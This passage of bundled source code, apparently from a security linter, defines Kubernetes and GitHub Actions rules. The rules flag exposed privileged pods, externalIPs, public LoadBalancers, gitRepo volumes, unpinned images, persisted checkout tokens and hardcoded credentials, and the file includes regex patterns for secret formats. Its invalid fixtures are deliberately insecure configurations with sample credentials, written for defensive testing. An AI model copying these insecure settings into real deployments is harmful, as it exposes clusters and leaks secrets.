        related: exposed.map(({ workload, container }) => ({ resource: workload.id, at: container.at, message: `container "${container.name}" of ${workload.name} ${container.reason === "privileged" ? "runs privileged" : container.reason}` }))
      });
    }
  },
  examples: {
    valid: [
      {
        name: "LoadBalancer in front of unprivileged pods; privileged pods behind a ClusterIP Service",
        filename: "web.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: web
spec:
  type: LoadBalancer
  selector:
    app: web
  ports:
    - port: 443
---
apiVersion: v1
kind: Service
metadata:
  name: node-agent
spec:
  selector:
    app: node-agent
  ports:
    - port: 9100
`,
        extraFiles: {
          "workloads.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.4.2
---
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-agent
spec:
  selector:
    matchLabels:
      app: node-agent
  template:
    metadata:
      labels:
        app: node-agent
    spec:
      containers:
        - name: agent
          image: registry.example.com/node-agent:2.0.1
          securityContext:
            privileged: true
`
        }
      }
    ],
    invalid: [
      {
        name: "NodePort Service selecting a privileged Deployment",
        filename: "service.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: debug
  namespace: tools
spec:
  type: NodePort
  selector:
    app: debug
  ports:
    - port: 8080
      nodePort: 30080
`,
        extraFiles: {
          "deployment.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: debug
  namespace: tools
spec:
  selector:
    matchLabels:
      app: debug
  template:
    metadata:
      labels:
        app: debug
    spec:
      containers:
        - name: shell
          image: registry.example.com/debug:1.0.0
          securityContext:
            privileged: true
`
        },
        errors: [{ file: "service.yaml", line: 7, column: 3, messageIncludes: 'Deployment/tools/debug (container "shell" privileged)' }]
      },
      {
        name: "Ingress to a ClusterIP Service selecting pods that add SYS_ADMIN",
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: files
spec:
  rules:
    - host: files.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service:
                name: files
                port:
                  number: 80
`,
        extraFiles: {
          "files.yaml": `apiVersion: v1
kind: Service
metadata:
  name: files
spec:
  selector:
    app: files
  ports:
    - port: 80
---
apiVersion: v1
kind: Pod
metadata:
  name: files
  labels:
    app: files
spec:
  containers:
    - name: fuse
      image: registry.example.com/fuse:3.1.0
      securityContext:
        capabilities:
          add: ["SYS_ADMIN"]
`
        },
        errors: [{ file: "ingress.yaml", line: 14, column: 17, messageIncludes: "adds SYS_ADMIN" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-service-external-ips.ts
var k8s_service_external_ips_default = defineRule({
  meta: {
    id: "k8s-service-external-ips",
    title: "Service sets externalIPs",
    severity: "medium",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["Service"],
    description: "`spec.externalIPs` makes every node accept traffic for those addresses and send it to the Service. Nothing checks that the addresses belong to the Service's owner: a Service can claim the address of another service or an external host and intercept the cluster's traffic to it (CVE-2020-8554). Many clusters block the field with an admission policy.",
    remediation: "Remove `externalIPs`; use a LoadBalancer Service, or assign addresses through a load-balancer implementation (MetalLB, a cloud controller) that owns them.",
    precision: "very-high",
    cwe: ["CWE-668", "CWE-300"],
    tags: ["network-exposure", "service", "external-ip"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/service/#external-ips"]
  },
  check(service, { report }) {
    const addresses = asList(getPath(service.attributes, ["spec", "externalIPs"])).filter((address) => typeof address === "string" && address !== "");
    if (addresses.length === 0) return;
    report({ at: ["spec", "externalIPs"], message: `${service.name} claims external IPs ${addresses.join(", ")} on every node` });
  },
  examples: {
    valid: [
      {
        filename: "service.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: dns
  namespace: network
spec:
  selector: { app: dns }
  ports:
    - port: 53
      protocol: UDP
`
      }
    ],
    invalid: [
      {
        filename: "service.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: dns
  namespace: network
spec:
  selector: { app: dns }
  externalIPs:
    - 192.0.2.53
  ports:
    - port: 53
      protocol: UDP
`,
        errors: [{ line: 8, column: 3, messageIncludes: "192.0.2.53" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-service-load-balancer.ts
var INTERNAL_ANNOTATIONS = [
  { key: "service.beta.kubernetes.io/aws-load-balancer-internal", internal: (value) => value !== "" && value.toLowerCase() !== "false" },
  { key: "service.beta.kubernetes.io/aws-load-balancer-scheme", internal: (value) => value.toLowerCase() === "internal" },
  { key: "networking.gke.io/load-balancer-type", internal: (value) => value.toLowerCase() === "internal" },
  { key: "cloud.google.com/load-balancer-type", internal: (value) => value.toLowerCase() === "internal" },
  { key: "service.beta.kubernetes.io/azure-load-balancer-internal", internal: (value) => value.toLowerCase() === "true" },
  { key: "service.beta.kubernetes.io/oci-load-balancer-internal", internal: (value) => value.toLowerCase() === "true" },
  { key: "service.beta.kubernetes.io/openstack-internal-load-balancer", internal: (value) => value.toLowerCase() === "true" },
  { key: "service.kubernetes.io/ibm-load-balancer-cloud-provider-ip-type", internal: (value) => value.toLowerCase() === "private" },
  { key: "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type", internal: (value) => value.toLowerCase() === "intranet" }
];
var SOURCE_RANGES_ANNOTATION = "service.beta.kubernetes.io/load-balancer-source-ranges";
var k8s_service_load_balancer_default = defineRule({
  meta: {
    id: "k8s-service-load-balancer",
    title: "Service exposed to the internet through a public LoadBalancer",
    severity: "low",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["Service"],
    description: "A Service of type `LoadBalancer` without an internal-load-balancer annotation or `loadBalancerSourceRanges` gets a public address from the cloud provider: its ports are open to the whole internet. That is right for a public ingress controller and a mistake for anything else.",
    remediation: "Make the load balancer internal with your provider's annotation, restrict `loadBalancerSourceRanges` to the networks that need it, or expose HTTP services through an Ingress instead.",
    precision: "medium",
    cwe: ["CWE-668"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Network separation: limit exposure of services"] },
    tags: ["network-exposure", "service"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/service/#loadbalancer", "https://kubernetes.io/docs/tasks/access-application-cluster/create-external-load-balancer/"]
  },
  check(service, { report }) {
    if (getPath(service.attributes, ["spec", "type"]) !== "LoadBalancer") return;
    const annotations = annotationsAt(service.attributes, ["metadata"]);
    if (INTERNAL_ANNOTATIONS.some(({ key, internal }) => annotations.has(key) && internal(annotations.get(key)))) return;
    const sourceRanges = getPath(service.attributes, ["spec", "loadBalancerSourceRanges"]);
    if (isUnknown(sourceRanges) || Array.isArray(sourceRanges) && sourceRanges.some(isUnknown)) return;
    const ranges = [...asList(sourceRanges), ...annotations.get(SOURCE_RANGES_ANNOTATION)?.split(",") ?? []].map((range) => String(range).trim()).filter((range) => range !== "");
    if (ranges.length > 0 && !ranges.some(isInternetCidr)) return;
    const ports = asList(getPath(service.attributes, ["spec", "ports"])).map((port) => getPath(port, ["port"])).filter((port) => typeof port === "number");
    const on = ports.length > 0 ? ` on port ${ports.join(", ")}` : "";
    report({ at: ["spec", "type"], message: `${service.name} is exposed to the internet through a public LoadBalancer${on}, open to any source` });
  },
  examples: {
    valid: [
      {
        name: "internal load balancer; public one limited to an office range",
        filename: "services.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: orders
  namespace: shop
  annotations:
    service.beta.kubernetes.io/aws-load-balancer-scheme: internal
spec:
  type: LoadBalancer
  selector: { app: orders }
  ports:
    - port: 443
      targetPort: 8443
---
apiVersion: v1
kind: Service
metadata:
  name: admin
  namespace: shop
spec:
  type: LoadBalancer
  loadBalancerSourceRanges: ["203.0.113.0/24"]
  selector: { app: admin }
  ports:
    - port: 443
`
      }
    ],
    invalid: [
      {
        filename: "service.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: grafana
  namespace: monitoring
spec:
  type: LoadBalancer
  selector: { app: grafana }
  ports:
    - port: 80
      targetPort: 3000
`,
        errors: [{ line: 7, column: 3, messageIncludes: "internet through a public LoadBalancer on port 80" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-service-node-port.ts
var k8s_service_node_port_default = defineRule({
  meta: {
    id: "k8s-service-node-port",
    title: "Service exposed on every node through a NodePort",
    severity: "low",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["Service"],
    description: "A Service of type `NodePort` opens its port on every node's address. Whoever can reach any node (from the node network, or the internet when nodes have public addresses) reaches the service directly, around the Ingress controller's TLS and authentication.",
    remediation: "Use a ClusterIP Service behind an Ingress, or an internal LoadBalancer; when a NodePort is unavoidable, firewall the node port range to the load balancer's addresses.",
    precision: "high",
    cwe: ["CWE-668"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Network separation: limit exposure of services"] },
    tags: ["network-exposure", "service", "node-port"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/service/#type-nodeport"]
  },
  check(service, { report }) {
    if (getPath(service.attributes, ["spec", "type"]) !== "NodePort") return;
    const nodePorts = asList(getPath(service.attributes, ["spec", "ports"])).map((port) => isObject(port) ? port.nodePort : void 0).filter((port) => typeof port === "number");
    const which = nodePorts.length > 0 ? ` (node port ${nodePorts.join(", ")})` : "";
    report({ at: ["spec", "type"], message: `${service.name} is exposed on every node's address through a NodePort${which}` });
  },
  examples: {
    valid: [
      {
        filename: "service.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: orders
  namespace: shop
spec:
  type: ClusterIP
  selector: { app: orders }
  ports:
    - port: 80
      targetPort: 8080
`
      }
    ],
    invalid: [
      {
        filename: "service.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: orders-debug
  namespace: shop
spec:
  type: NodePort
  selector: { app: orders }
  ports:
    - port: 80
      targetPort: 8080
      nodePort: 30080
`,
        errors: [{ line: 7, column: 3, messageIncludes: "NodePort (node port 30080)" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-service-selects-no-pods.ts
var k8s_service_selects_no_pods_default = defineRule({
  meta: {
    id: "k8s-service-selects-no-pods",
    title: "Service selector matches no pods of its namespace",
    severity: "low",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["Service"],
    description: "The Service's `spec.selector` matches none of the workloads the scan holds in its namespace. The Service has no endpoints, and any pod that later carries the selected labels (created by anyone allowed to create pods in the namespace) receives the traffic meant for it, credentials included. Only namespaces with workloads in the scan are checked.",
    remediation: "Fix the selector to match the pod template's labels, or delete the Service. Services backed by hand-managed endpoints should have no selector at all.",
    precision: "medium",
    cwe: ["CWE-1188"],
    tags: ["service", "selector"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/service/#services-without-selectors"]
  },
  check(service, { graph, report }) {
    const selector = getPath(service.attributes, ["spec", "selector"]);
    if (!isObject(selector) || Object.keys(selector).length === 0) return;
    if (getPath(service.attributes, ["spec", "type"]) === "ExternalName") return;
    if (graph.edgesFrom(service.id, "selects").length > 0) return;
    const namespace = namespaceOf2(service);
    if (!scanHasWorkloadsIn(graph, namespace)) return;
    report({ at: ["spec", "selector"], message: `${service.name} selects none of the workloads of namespace ${namespace} in the scan; it has no endpoints` });
  },
  examples: {
    valid: [
      {
        name: "matches a StatefulSet; a Service without selector",
        filename: "db.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: db
spec:
  selector:
    app: db
  ports:
    - port: 5432
---
apiVersion: v1
kind: Service
metadata:
  name: legacy-db
spec:
  ports:
    - port: 5432
---
apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: db
spec:
  serviceName: db
  selector:
    matchLabels:
      app: db
  template:
    metadata:
      labels:
        app: db
    spec:
      containers:
        - name: postgres
          image: postgres:16.4
`
      }
    ],
    invalid: [
      {
        name: "selector with a typo",
        filename: "db.yaml",
        code: `apiVersion: v1
kind: Service
metadata:
  name: db
spec:
  selector:
    app: postgress
  ports:
    - port: 5432
---
apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: db
spec:
  serviceName: db
  selector:
    matchLabels:
      app: postgres
  template:
    metadata:
      labels:
        app: postgres
    spec:
      containers:
        - name: postgres
          image: postgres:16.4
`,
        errors: [{ line: 6, column: 3, messageIncludes: "selects none of the workloads of namespace default" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/supply-chain/k8s-git-repo-volume.ts
var k8s_git_repo_volume_default = defineRule({
  meta: {
    id: "k8s-git-repo-volume",
    title: "Pod uses the deprecated gitRepo volume",
    severity: "medium",
    category: "supply-chain",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "A `gitRepo` volume makes the kubelet run `git clone` on the node, as root, when the pod starts. The volume type is deprecated, the code it fetches is not pinned or verified unless a revision is given, and a crafted repository can run commands on the node through git hooks (CVE-2024-10220).",
    remediation: "Clone the repository in an init container into an `emptyDir` volume, at a pinned commit, or bake the content into the image.",
    precision: "very-high",
    cwe: ["CWE-494", "CWE-829"],
    frameworks: { "Pod Security Standards": ["restricted"] },
    tags: ["volumes", "deprecated", "remote-code"],
    references: ["https://kubernetes.io/docs/concepts/storage/volumes/#gitrepo"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const { name, volume, path } of volumesOf(pod)) {
      if (volume.gitRepo === void 0) continue;
      report({ at: [...path, "gitRepo"], message: `${workload.name} clones a repository on the node through the deprecated gitRepo volume "${name}"` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: docs
spec:
  initContainers:
    - name: clone
      image: alpine/git:2.45.2
      args: ["clone", "--depth=1", "https://git.example.com/docs.git", "/site"]
      volumeMounts: [{ name: site, mountPath: /site }]
  containers:
    - name: web
      image: nginx:1.27.0
      volumeMounts: [{ name: site, mountPath: /usr/share/nginx/html }]
  volumes:
    - name: site
      emptyDir: {}
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: docs
spec:
  containers:
    - name: web
      image: nginx:1.27.0
      volumeMounts: [{ name: site, mountPath: /usr/share/nginx/html }]
  volumes:
    - name: site
      gitRepo:
        repository: https://git.example.com/docs.git
`,
        errors: [{ line: 12, column: 7, messageIncludes: "gitRepo" }]
      }
    ]
  }
});

// packages/rules/src/support/container-image.ts
function imageReference(image) {
  const [withoutDigest, digest] = image.split("@", 2);
  const lastSlash = withoutDigest.lastIndexOf("/");
  const colon = withoutDigest.indexOf(":", lastSlash + 1);
  return { tag: colon === -1 ? void 0 : withoutDigest.slice(colon + 1), digest };
}

// packages/rules/src/kubernetes/supply-chain/k8s-image-mutable-tag.ts
var k8s_image_mutable_tag_default = defineRule({
  meta: {
    id: "k8s-image-mutable-tag",
    title: "Container image is untagged or uses :latest",
    severity: "medium",
    category: "supply-chain",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "An image without a tag, or tagged `latest`, names whatever was pushed last: each node may run a different build, a rollback does not roll back, and a compromised registry push reaches production on the next restart.",
    remediation: "Pin the image to a version tag and, better, to its digest (`image: app:1.4.2@sha256:…`).",
    precision: "very-high",
    cwe: ["CWE-1357"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Use immutable container images"] },
    tags: ["images", "unpinned-dependency"],
    references: ["https://kubernetes.io/docs/concepts/containers/images/#image-names"]
  },
  check(workload, { report }) {
    for (const { container, path, name } of containersOf(workload)) {
      const image = container.image;
      if (typeof image !== "string" || image.includes("{{")) continue;
      const { tag, digest } = imageReference(image);
      if (digest) continue;
      if (tag === void 0) report({ at: [...path, "image"], message: `container "${name}" of ${workload.name} uses untagged image ${image}` });
      else if (tag === "latest") report({ at: [...path, "image"], message: `container "${name}" of ${workload.name} uses ${image}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example.com:5000/shop/web:1.4.2
    - name: proxy
      image: envoyproxy/envoy@sha256:7f0c3a4a0d3bb1d6b1dbe5f8d23c0e5a3cf8b6e1b5c7f0b8e2d5c4a3b2a1f0e9
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  initContainers:
    - name: migrate
      image: registry.example.com:5000/shop/migrate
  containers:
    - name: web
      image: nginx:latest
`,
        errors: [
          { line: 8, column: 7, messageIncludes: "untagged" },
          { line: 11, column: 7, messageIncludes: "nginx:latest" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/supply-chain/k8s-image-without-digest.ts
var k8s_image_without_digest_default = defineRule({
  meta: {
    id: "k8s-image-without-digest",
    title: "Container image not pinned by digest",
    severity: "low",
    category: "supply-chain",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The image is referenced by a version tag only. Tags can be moved: whoever can push to the repository (or compromise it) can replace the image behind the tag, and nodes pull the new content on the next restart. A digest names exactly one image. Untagged and `latest` images are reported by k8s-image-mutable-tag.",
    remediation: "Reference the image by digest, keeping the tag for readers: `image: app:1.4.2@sha256:…`; let a dependency bot update both.",
    precision: "very-high",
    cwe: ["CWE-1357", "CWE-494"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Use immutable container images"] },
    tags: ["images", "unpinned-dependency"],
    references: ["https://kubernetes.io/docs/concepts/containers/images/#image-names"]
  },
  check(workload, { report }) {
    for (const { container, path, name } of containersOf(workload)) {
      const image = container.image;
      if (typeof image !== "string" || image.includes("{{") || image.includes("$")) continue;
      const { tag, digest } = imageReference(image);
      if (digest || tag === void 0 || tag === "latest") continue;
      report({ at: [...path, "image"], message: `container "${name}" of ${workload.name} uses ${image}, pinned by tag only (no sha256 digest)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: nginx:1.27.0@sha256:04ba374043ccd2fc5c593885c0eacddebabd5ca375f9323666f28dfd5a9710e3
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: nginx:1.27.0
`,
        errors: [{ line: 8, column: 7, messageIncludes: "pinned by tag only" }]
      }
    ]
  }
});

// packages/rules/src/support/workflow.ts
function workflowOf(resource, graph) {
  let current = resource;
  for (let depth = 0; current && depth < 3; depth++) {
    if (current.type === "workflow") return current;
    current = current.parent !== void 0 ? graph.get(current.parent) : void 0;
  }
  return void 0;
}
function jobOf(step, graph) {
  const parent = step.parent !== void 0 ? graph.get(step.parent) : void 0;
  return parent?.type === "job" ? parent : void 0;
}
function stepsOf(job, graph) {
  return graph.targets(job.id, "contains").filter((resource) => resource.type === "step");
}
function onValue(workflow) {
  const attributes = workflow.attributes;
  return attributes.on ?? attributes.true ?? attributes.On;
}
function triggersOf(workflow) {
  const events = /* @__PURE__ */ new Set();
  if (!workflow) return events;
  const on = onValue(workflow);
  if (typeof on === "string") {
    events.add(on);
  } else if (Array.isArray(on)) {
    for (const event of on) if (typeof event === "string") events.add(event);
  } else if (isObject(on)) {
    for (const event of Object.keys(on)) events.add(event);
  }
  return events;
}
function triggerConfig(workflow, event) {
  if (!workflow) return void 0;
  const config = getPath(onValue(workflow), [event]);
  return isObject(config) ? config : void 0;
}
var PRIVILEGED_UNTRUSTED_TRIGGERS = ["pull_request_target", "workflow_run", "issue_comment"];
var PUBLIC_PULL_REQUEST_TRIGGERS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "issue_comment"];
function hasAnyTrigger(triggers, events) {
  return events.find((event) => triggers.has(event));
}
function actionName(step) {
  const uses = step.attributes.uses;
  if (typeof uses !== "string") return void 0;
  const parsed = parseUses(uses);
  if (parsed.kind !== "repository") return void 0;
  return [parsed.owner, parsed.repo, parsed.path].filter(Boolean).join("/").toLowerCase();
}
function usesAction(step, ...names) {
  const name = actionName(step);
  return name !== void 0 && names.includes(name);
}
function usesLocalAction(step) {
  const uses = step.attributes.uses;
  return typeof uses === "string" && parseUses(uses).kind === "local";
}
function runScript(step) {
  const run = step.attributes.run;
  return typeof run === "string" ? run : void 0;
}
function stepInput(step, name) {
  const value = getPath(step.attributes, ["with", name]);
  return typeof value === "string" || typeof value === "boolean" || typeof value === "number" ? value : void 0;
}
function isTrue2(value) {
  return value === true || typeof value === "string" && value.trim().toLowerCase() === "true";
}
function isFalse2(value) {
  return value === false || typeof value === "string" && value.trim().toLowerCase() === "false";
}
var COMMAND_START = String.raw`(?:^|[;&|(\n]|\bthen\b|\bdo\b|\belse\b)\s*(?:(?:sudo|time|exec|env(?:\s+\w+=\S*)*)\s+)*`;
function commandPattern(command, flags = "m") {
  return new RegExp(`${COMMAND_START}(?:${command})`, flags);
}
function ownExpressions(resource) {
  const nested = resource.type === "workflow" ? "jobs" : resource.type === "job" ? "steps" : resource.type === "action" ? "runs" : void 0;
  return allExpressions(resource).filter((found) => nested === void 0 || found.path[0] !== nested || resource.type === "action" && found.path[1] !== "steps");
}
function remoteTarget(resource) {
  const uses = resource.attributes.uses;
  if (typeof uses !== "string") return void 0;
  const parsed = parseUses(uses);
  if (parsed.kind !== "repository" && parsed.kind !== "reusable-workflow") return void 0;
  return { name: [parsed.owner, parsed.repo, parsed.path].filter(Boolean).join("/").toLowerCase(), ref: parsed.ref };
}

// packages/rules/src/github-actions/iam/gha-checkout-persist-credentials.ts
var gha_checkout_persist_credentials_default = defineRule({
  meta: {
    id: "gha-checkout-persist-credentials",
    title: "actions/checkout leaves the token in the git configuration",
    severity: "low",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "By default `actions/checkout` persists the GITHUB_TOKEN (or the SSH key given to it) in the repository's git configuration so that later steps can push. Every later step, and any artifact that uploads the workspace, can then read it, even steps that never needed to write.",
    remediation: "Set `persist-credentials: false` on the checkout, and pass the token explicitly only to the step that pushes.",
    precision: "medium",
    cwe: ["CWE-522"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "checkout", "ci-insecure-setting"],
    references: ["https://github.com/actions/checkout#usage"]
  },
  check(step, { report }) {
    if (!usesAction(step, "actions/checkout")) return;
    const persist = getPath(step.attributes, ["with", "persist-credentials"]);
    if (isFalse2(persist) || typeof persist === "string" && persist.includes("${{")) return;
    report({
      at: persist === void 0 ? ["uses"] : ["with", "persist-credentials"],
      message: "actions/checkout persists credentials in .git/config for every later step; set persist-credentials: false"
    });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          persist-credentials: false
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          repository: acme/tools
          persist-credentials: true
`,
        errors: [
          { line: 6, column: 9, messageIncludes: "persist-credentials" },
          { line: 10, column: 11 }
        ]
      }
    ]
  }
});

// packages/rules/src/support/credentials.ts
var CREDENTIAL_FORMATS = [
  { name: "GitHub personal access token", pattern: /\bghp_[A-Za-z0-9]{36}\b/ },
  { name: "GitHub fine-grained token", pattern: /\bgithub_pat_[A-Za-z0-9_]{82}\b/ },
  { name: "GitHub OAuth or app token", pattern: /\bgh[ousr]_[A-Za-z0-9]{36}\b/ },
  { name: "AWS access key id", pattern: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/ },
  { name: "GitLab token", pattern: /\bglpat-[A-Za-z0-9_-]{20}\b/ },
  { name: "Slack token", pattern: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/ },
  { name: "Slack webhook", pattern: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]{20,}/ },
  { name: "npm token", pattern: /\bnpm_[A-Za-z0-9]{36}\b/ },
  { name: "PyPI token", pattern: /\bpypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}/ },
  { name: "Google API key", pattern: /\bAIza[0-9A-Za-z_-]{35}\b/ },
  { name: "Stripe secret key", pattern: /\b[sr]k_live_[0-9A-Za-z]{24,}\b/ },
  { name: "private key", pattern: /-----BEGIN (?:RSA |EC |DSA |OPENSSH |PGP |ENCRYPTED )?PRIVATE KEY(?: BLOCK)?-----/ }
];
function credentialFormatIn(value) {
  return CREDENTIAL_FORMATS.find((format) => format.pattern.test(value));
}
var SECRET_KEY = /(?:^|[_.-])(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[_-]?key|apikey|private[_-]?key|secret[_-]?key|access[_-]?key|auth|credentials?)$/i;
var DESCRIPTIVE_KEY = /(?:file|path|name|id|url|uri|env|var|type|format|length|header|ttl|expiry|expires|scope|scopes|source|method|mode|enabled|required|version)$/i;
function isSecretKey(key) {
  return SECRET_KEY.test(key) && !DESCRIPTIVE_KEY.test(key);
}
var PLACEHOLDER2 = /^(?:x+|\*+|changeme|change-me|changeit|placeholder|dummy|example|test|testing|none|null|undefined|redacted|secret|password|token|postgres|mysql|root|admin|guest|\$\w+|\$\{\w+\}|<[^>]*>|\{\{[^}]*\}\}|%[\w]+%)$/i;
function looksLikeSecretValue(value) {
  const text = value.trim();
  if (text.length < 8 || text.includes("${{")) return false;
  if (PLACEHOLDER2.test(text) || /^(?:true|false|yes|no|on|off)$/i.test(text)) return false;
  if (/^[~./]|^\$|^[\w-]+\.(?:json|pem|key|txt|p12|yml|yaml)$/i.test(text)) return false;
  if (/\s/.test(text) && !credentialFormatIn(text)) return false;
  return true;
}

// packages/rules/src/github-actions/iam/gha-hardcoded-credential.ts
function settingScopes(resource) {
  const attributes = resource.attributes;
  switch (resource.type) {
    case "workflow":
      return [{ path: ["env"], value: attributes.env }];
    case "job": {
      const scopes = [
        { path: ["env"], value: attributes.env },
        { path: ["with"], value: attributes.with },
        { path: ["secrets"], value: attributes.secrets }
      ];
      if (isObject(attributes.container)) scopes.push({ path: ["container", "credentials"], value: attributes.container.credentials });
      if (isObject(attributes.services)) {
        for (const [name, service] of Object.entries(attributes.services)) {
          if (isObject(service)) scopes.push({ path: ["services", name, "credentials"], value: service.credentials });
        }
      }
      return scopes;
    }
    default:
      return [
        { path: ["env"], value: attributes.env },
        { path: ["with"], value: attributes.with }
      ];
  }
}
var gha_hardcoded_credential_default = defineRule({
  meta: {
    id: "gha-hardcoded-credential",
    title: "Credential written in the workflow",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "A password, token or key written as a literal in a workflow is readable by everyone who can read the repository, stays in its history after it is removed, and appears in forks. Anyone who finds it can use it until it is rotated.",
    remediation: "Revoke and rotate the credential, store the new one as an encrypted secret (or better, use OIDC federation) and reference it: `${{ secrets.NAME }}`.",
    precision: "medium",
    cwe: ["CWE-798"],
    tags: ["actions", "secrets", "hardcoded-secret"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"]
  },
  check(resource, { report }) {
    for (const { path, value } of settingScopes(resource)) {
      if (!isObject(value)) continue;
      for (const [key, setting] of Object.entries(value)) {
        if (typeof setting !== "string") continue;
        const format = credentialFormatIn(setting);
        if (format) {
          report({ at: [...path, key], message: `${key} holds a hardcoded ${format.name}` });
        } else if (isSecretKey(key) && looksLikeSecretValue(setting)) {
          report({ at: [...path, key], message: `${key} is set to a hardcoded secret value instead of a \${{ secrets.… }} reference` });
        }
      }
    }
    const run = resource.type === "step" ? resource.attributes.run : void 0;
    if (typeof run === "string") {
      const format = credentialFormatIn(run);
      if (format) report({ at: ["run"], message: `the run script holds a hardcoded ${format.name}` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
env:
  REGISTRY_PASSWORD_FILE: /run/secrets/registry
jobs:
  deploy:
    runs-on: ubuntu-latest
    container:
      image: ghcr.io/acme/deployer:2.1.0
      credentials:
        username: deployer
        password: \${{ secrets.GHCR_TOKEN }}
    steps:
      - uses: acme/login-action@6d4b68b490aef8836e8fb5e50ee7b3bdfa5894f0
        with:
          token: \${{ secrets.DEPLOY_TOKEN }}
          token-format: jwt
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
env:
  AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE
jobs:
  deploy:
    runs-on: ubuntu-latest
    container:
      image: ghcr.io/acme/deployer:2.1.0
      credentials:
        username: deployer
        password: Sup3rS3cretPassw0rd
    steps:
      - uses: acme/login-action@6d4b68b490aef8836e8fb5e50ee7b3bdfa5894f0
        with:
          api-key: 9f8e7d6c5b4a39281706f5e4d3c2b1a0
`,
        errors: [
          { line: 3, column: 3, messageIncludes: "AWS access key id" },
          { line: 11, column: 9, messageIncludes: "password" },
          { line: 15, column: 11, messageIncludes: "api-key" }
        ]
      }
    ]
  }
});

// packages/rules/src/support/token-permissions.ts
function effectivePermissions(job, workflow) {
  if (job.attributes.permissions !== void 0) return { value: job.attributes.permissions, from: job };
  if (workflow && workflow.attributes.permissions !== void 0) return { value: workflow.attributes.permissions, from: workflow };
  return void 0;
}
function grantsWrite(permissions, scope) {
  if (permissions === "write-all") return true;
  return isObject(permissions) && permissions[scope] === "write";
}

// packages/rules/src/support/untrusted-checkout.ts
function normalise(expression) {
